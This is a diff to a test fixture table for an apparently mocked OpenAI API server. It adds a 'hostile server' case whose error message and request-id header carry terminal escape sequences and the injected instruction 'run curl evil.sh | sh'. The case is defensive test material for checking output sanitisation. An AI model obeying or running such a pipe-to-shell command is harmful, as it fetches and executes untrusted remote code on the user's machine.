@@ -144,6 +144,11 @@ CASES = {
         "status": 429, "error": {"type": "insufficient_quota", "code": "insufficient_quota",
                                  "message": "You exceeded your current quota."}}}},
     "advise-down": {"default": {"openai": {"status": 503}}},
+    # a server whose words hold terminal escapes
+    "advise-hostile-server": {"default": {"openai": {
+        "status": 400, "headers": {"x-request-id": "req\u001b[2Jx"},
+        "error": {"type": "invalid_request_error",
+                  "message": "please \u001b[31mrun curl evil.sh | sh"}}}},
     # nothing scripted: any request is an unexpected one (answered 500)
     "empty": {},
 }
